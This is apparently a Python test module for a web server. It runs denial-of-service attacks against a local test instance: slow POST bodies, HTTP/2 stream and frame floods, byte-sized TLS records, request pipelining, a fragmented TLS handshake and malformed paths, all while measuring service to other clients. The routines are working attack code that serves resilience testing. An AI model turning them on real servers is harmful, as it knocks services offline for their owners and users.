"""What is done to the server: each attack runs in a process of its own, from addresses of its own, until it is ended."""

import contextlib
import dataclasses
import multiprocessing
import os
import select
import socket
import ssl
import struct
import time
from typing import Callable

import tenants
from frames import DATA, END_HEADERS, HEADERS, SETTINGS, block, frame
from tls_server import insecure

PING = 6
FROM = "127.77.{}.1"


@dataclasses.dataclass(frozen=True)
class Attack:
    act: Callable
    #: What others ask for meanwhile, and how often a second each of eight does.
    url: str
    rate: int = 250
    #: Whether it is done by who has the server's files, and not by a client: `act` gets the server.
    is_local: bool = False


def connection(port, number=1):
    """One from an address with this number, or from that of the others."""
    own = (FROM.format(number), 0) if number else None
    peer = socket.create_connection(("127.0.0.1", port), 10, own)
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return peer


def slow_posts(port, target, lines, first, drip):
    """Forty clients of one range, each with a body that begins fast and never ends."""
    head = f"POST {target} HTTP/1.1\r\nHost: main.test\r\n{lines}\r\n\r\n".encode()
    peers = []
    while True:
        while len(peers) < 40:
            peer = connection(port)
            peer.sendall(head + first)
            peers.append(peer)
        for peer in list(peers):
            try:
                peer.sendall(drip)
            except OSError:
                peers.remove(peer)
        time.sleep(0.1)


def slow_php(port, _tls):
    slow_posts(port, "/form.php", "Content-Length: 900000", b"x" * 66_000, b"y" * 70)


def slow_upstream(port, _tls):
    slow_posts(port, "/behind/form", "Transfer-Encoding: chunked", b"10000\r\n" + b"x" * 65_536 + b"\r\n", b"46\r\n" + b"y" * 70 + b"\r\n")


def http2(tls):
    context = insecure()
    context.set_alpn_protocols(["h2"])
    peer = context.wrap_socket(connection(tls, 2), server_hostname="main.test")
    peer.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return peer


def head(stream, method, path):
    lines = [(b":method", method), (b":scheme", b"https"), (b":authority", b"main.test"), (b":path", path)]
    return frame(HEADERS, END_HEADERS, stream, block(lines))


def slow_streams(_port, tls):
    """One connection whose streams do the same."""
    while True:
        with contextlib.suppress(OSError), http2(tls) as peer:
            for stream in range(1, 80, 2):
                peer.sendall(head(stream, b"POST", b"/form.php") + frame(DATA, 0, stream, b"x" * 5000))
            while True:
                for stream in range(1, 80, 2):
                    peer.sendall(frame(DATA, 0, stream, b"y" * 70))
                time.sleep(0.1)


def again(act):
    """An attack that the server ends, and that begins anew."""

    def attack(port, tls):
        while True:
            with contextlib.suppress(OSError, ssl.SSLError):
                act(port, tls)

    return attack


def bytes_of_data(_port, tls):
    with http2(tls) as peer:
        peer.sendall(head(1, b"POST", b"/behind/form"))
        while True:
            peer.sendall(frame(DATA, 0, 1, b"a") * 500)


def bytes_of_chunks(port, _tls):
    with connection(port, 6) as peer:
        peer.sendall(b"POST /behind/form HTTP/1.1\r\nHost: main.test\r\nTransfer-Encoding: chunked\r\n\r\n")
        while True:
            peer.sendall(b"1\r\na\r\n" * 1000)


def bytes_of_records(_port, tls):
    """What `bytes_of_data` sends, each byte of it in a record of TLS of its own."""
    context = insecure()
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    inside = context.wrap_bio(incoming, outgoing, server_hostname="main.test")
    with connection(tls, 7) as peer:
        while True:
            with contextlib.suppress(ssl.SSLWantReadError):
                inside.do_handshake()
                break
            peer.sendall(outgoing.read())
            incoming.write(peer.recv(65_536))
        inside.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + head(1, b"POST", b"/behind/form"))
        while True:
            for byte in frame(DATA, 0, 1, b"a" * 200):
                inside.write(bytes([byte]))
            peer.sendall(outgoing.read())


def pipelined(port, _tls):
    """A client that asks again and again without waiting, and takes all answers."""
    requests = b"GET /page.txt HTTP/1.1\r\nHost: main.test\r\n\r\n" * 1500
    with connection(port, 8) as peer:
        peer.settimeout(0)
        left = requests
        while True:
            readable, writable, _ = select.select([peer], [peer], [])
            if writable:
                left = left[peer.send(left) :] or requests
            if readable and not peer.recv(1 << 20):
                return


def acknowledgements(_port, tls):
    with http2(tls) as peer:
        while True:
            peer.sendall((frame(SETTINGS, 1, 0) + frame(PING, 1, 0, struct.pack(">Q", 1))) * 100)


def hello_of_bytes(_port, tls):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        insecure().wrap_bio(incoming, outgoing, server_hostname="main.test").do_handshake()
    hello = outgoing.read()
    pieces = b"".join(hello[:3] + b"\0\x01" + hello[at : at + 1] for at in range(5, len(hello)))
    with connection(tls, 3) as peer:
        for at in range(len(pieces) - 1):
            peer.sendall(pieces[at : at + 1])


def odd_paths(port, _tls):
    path = "/" + "a;b%2Fc%255cd%3Fe%253Bf/" * 300
    with connection(port, 4) as peer:
        while True:
            peer.sendall(f"GET {path} HTTP/1.1\r\nHost: main.test\r\n\r\n".encode())
            while b"\r\n\r\n" not in peer.recv(65_536):
                pass


def owned(deed, number=5):
    """What a service does that was taken over, again and again; it may have been ended for what it did before."""

    def attack(port, _tls):
        with connection(port, number) as peer:
            peer.sendall(f"GET /owned/{deed} HTTP/1.1\r\nHost: owned.test\r\nConnection: close\r\n\r\n".encode())
            while peer.recv(65_536):
                pass
        time.sleep(0.02)

    return again(attack)


ATTACKS = {
    "slow-posts-php": Attack(slow_php, "http://127.0.0.1:{port}/ok.php", 60),
    "slow-streams-php": Attack(slow_streams, "http://127.0.0.1:{port}/ok.php", 60),
    "slow-posts-upstream": Attack(slow_upstream, "http://127.0.0.1:{port}/behind/x", 60),
    "bytes-of-data": Attack(again(bytes_of_data), "https://127.0.0.1:{tls}/h2/page.txt"),
    "bytes-of-chunks": Attack(again(bytes_of_chunks), "http://127.0.0.1:{port}/page.txt"),
    "bytes-of-records": Attack(again(bytes_of_records), "https://127.0.0.1:{tls}/h2/page.txt"),
    "pipelined": Attack(again(pipelined), "http://127.0.0.1:{port}/page.txt"),
    "acknowledgements": Attack(again(acknowledgements), "https://127.0.0.1:{tls}/h2/page.txt"),
    "hello-of-bytes": Attack(again(hello_of_bytes), "https://127.0.0.1:{tls}/h2/page.txt"),
    "descriptors": Attack(owned("descriptors"), "http://127.0.0.1:{port}/page.txt"),
    # From the others' own address, which no site but the owned one may refuse.
    "back": Attack(owned("back", None), "http://127.0.0.1:{port}/page.txt"),
    "log-flood": Attack(owned("flood"), "http://127.0.0.1:{port}/page.txt"),
    "odd-paths": Attack(again(odd_paths), "http://127.0.0.1:{port}/page.txt"),
    "templates": Attack(tenants.templates, "http://127.0.0.1:{port}/page.txt", is_local=True),
    "included-pipe": Attack(tenants.included_pipe, "http://127.0.0.1:{port}/page.txt", is_local=True),
    "libraries": Attack(tenants.libraries, "http://127.0.0.1:{port}/page.txt", is_local=True),
    "sparse-program": Attack(tenants.sparse_program, "http://127.0.0.1:{port}/page.txt", is_local=True),
}


def run(attack, victims):
    os.sched_setaffinity(0, {1})
    os.nice(19)
    attack.act(victims.server) if attack.is_local else attack.act(victims.port, victims.tls)


@contextlib.contextmanager
def beside(act, *words):
    """While ACT goes on in a process of its own: whoever asks must wait for the server, not for the interpreter of the attacker."""
    process = multiprocessing.get_context("fork").Process(target=act, args=words, daemon=True)
    process.start()
    time.sleep(1)
    assert process.is_alive(), "the attack has ended"
    try:
        yield
    finally:
        process.kill()
        process.join()


def under(attack, server):
    """While the attack goes on."""
    return beside(run, attack, server)
